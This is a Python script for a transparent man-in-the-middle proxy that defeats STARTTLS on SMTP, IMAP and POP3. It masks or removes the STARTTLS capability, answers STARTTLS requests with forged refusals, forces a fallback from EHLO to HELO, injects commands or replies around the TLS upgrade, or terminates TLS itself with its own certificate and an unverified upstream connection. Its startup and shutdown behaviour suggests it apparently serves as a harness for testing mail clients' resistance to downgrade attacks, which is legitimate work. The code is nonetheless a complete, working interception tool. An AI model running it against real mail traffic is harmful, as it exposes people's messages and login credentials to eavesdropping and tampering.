#!/usr/bin/env python3
"""A machine on the path that takes STARTTLS away, in one of the ways seen in the wild.

usage: stripping_proxy.py WAY CERT KEY SOURCE PORT...

Accepts every connection that is routed to this host, whatever its address, and joins it to one of
its own from SOURCE to the server that was meant. Says "listening" when it does, and ends when its
standard input does.

 mask            the keyword in the list of capabilities becomes XXXXXXXA
 remove          the keyword is taken out of the list
 refuse          the client's request never reaches the server, and is answered 454, NO, -ERR
 refuse-for-good the same, 502, BAD
 no-ehlo         EHLO is answered 502, so that the client falls back to HELO
 inject-reply    a further reply follows the server's "go ahead" in the same flight
 inject-command  a further command follows the client's request on its way to the server
 intercept       TLS ends here: one handshake with the client, another with the server
"""
import contextlib
import re
import select
import socket
import ssl
import sys
import threading

IP_TRANSPARENT, IPV6_TRANSPARENT = 19, 75
KEYWORD = re.compile(rb"\b(STARTTLS|STLS)\b")
REQUEST = re.compile(rb"^(?:(\S+) )?(STARTTLS|STLS)\r?\n$", re.I)
GRANTED = re.compile(rb"^(?:220[ \r]|\+OK|\S+ OK )")
REFUSED = {
    "refuse": {25: b"454 4.7.0 TLS not available due to temporary reason\r\n",
               143: b"%s NO STARTTLS not available\r\n", 110: b"-ERR STLS not available\r\n"},
    "refuse-for-good": {25: b"502 5.5.1 Command not implemented\r\n",
                        143: b"%s BAD unknown command\r\n", 110: b"-ERR unknown command\r\n"},
}
REFUSED["refuse"][587] = REFUSED["refuse"][25]
INJECTED = {25: (b"RSET\r\n", b"250 2.0.0 Ok\r\n"), 143: (b"x NOOP\r\n", b"* 1 EXISTS\r\n"),
            110: (b"NOOP\r\n", b"+OK\r\n")}
GO_ON = object()  # the other direction will see to the rest


class Path:
    """One connection through this machine."""

    def __init__(self, way, port, client, server, certificate):
        self.way, self.port, self.certificate = way, port, certificate
        self.client, self.server = client, server
        self.from_client, self.from_server = client.makefile("rb", 0), server.makefile("rb", 0)
        self.asked = False

    def run(self):
        forth = threading.Thread(target=self._watch, args=(self._to_server, "server"), daemon=True)
        forth.start()
        self._watch(self._to_client, "client")
        forth.join()
        self.client.close()
        self.server.close()

    def _watch(self, relay, towards):
        """The end of one side's data is the end of the data towards the other."""
        with contextlib.suppress(OSError):
            if relay() is not GO_ON:
                getattr(self, towards).shutdown(socket.SHUT_WR)

    def _to_server(self):
        while (line := self.from_client.readline()):
            request = REQUEST.match(line)
            if self.way == "no-ehlo" and line.upper().startswith(b"EHLO"):
                self.client.sendall(b"502 5.5.1 Command not implemented\r\n")
            elif request and self.way in REFUSED:
                reply = REFUSED[self.way][self.port]
                self.client.sendall(reply % request[1] if b"%s" in reply else reply)
            elif request:
                self.asked = True
                more = INJECTED[self.port][0] if self.way == "inject-command" else b""
                self.server.sendall(line + more)
                if self.way != "intercept":
                    return self._copy(self.client, self.server)
                return GO_ON
            else:
                self.server.sendall(line)
        return None

    def _to_client(self):
        while (line := self.from_server.readline()):
            if self.asked and GRANTED.match(line):
                if self.way == "inject-reply":
                    line += INJECTED[self.port][1]
                self.client.sendall(line)
                if self.way == "intercept":
                    return self._intercept()
                return self._copy(self.server, self.client)
            self.client.sendall(self._changed(line))
        return None

    def _changed(self, line):
        """A line of the server before TLS."""
        if self.way == "mask":
            return KEYWORD.sub(lambda m: b"X" * (len(m[0]) - 1) + b"A", line)
        if self.way != "remove" or not KEYWORD.search(line):
            return line
        if self.port == 110:
            return b""
        if self.port == 143:
            return re.sub(rb" ?\bSTARTTLS\b", b"", line)
        return b"250 X-LAST\r\n" if line.startswith(b"250 ") else b""

    def _intercept(self):
        inside = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        inside.load_cert_chain(*self.certificate)
        outside = ssl._create_unverified_context()  # pylint: disable=W0212
        self.server = outside.wrap_socket(self.server)
        self.client = inside.wrap_socket(self.client, server_side=True)
        self._join()

    def _join(self):
        """TLS on both sides, by one thread: OpenSSL's objects are not for two at once."""
        other = {self.client: self.server, self.server: self.client}
        while other:
            ready = [one for one in other if one.pending()] or select.select(list(other), [], [])[0]
            for one in ready:
                one.setblocking(False)
                try:
                    data = one.recv(65536)
                except ssl.SSLWantReadError:  # half a record, or one that has no data
                    continue
                finally:
                    one.setblocking(True)
                if data:
                    other[one].sendall(data)
                else:
                    other.pop(one).shutdown(socket.SHUT_WR)

    @staticmethod
    def _copy(one, other):
        while (data := one.recv(65536)):
            other.sendall(data)


def serve(way, certificate, source, port, listening):
    family = socket.AF_INET6 if ":" in source else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if family == socket.AF_INET6:
            listener.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
        else:
            listener.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
        listener.bind(("", port))
        listener.listen()
        listening.release()
        while True:
            client, _ = listener.accept()
            server = socket.create_connection(client.getsockname()[:2], 60, (source, 0))
            path = Path(way, port, client, server, certificate)
            threading.Thread(target=path.run, daemon=True).start()


def main():
    way, certificate, key, source, *ports = sys.argv[1:]
    listening = threading.Semaphore(0)
    for port in map(int, ports):
        threading.Thread(target=serve, daemon=True,
                         args=(way, (certificate, key), source, port, listening)).start()
    for _ in ports:
        listening.acquire()
    print("listening", flush=True)
    sys.stdin.readline()


if __name__ == "__main__":
    main()
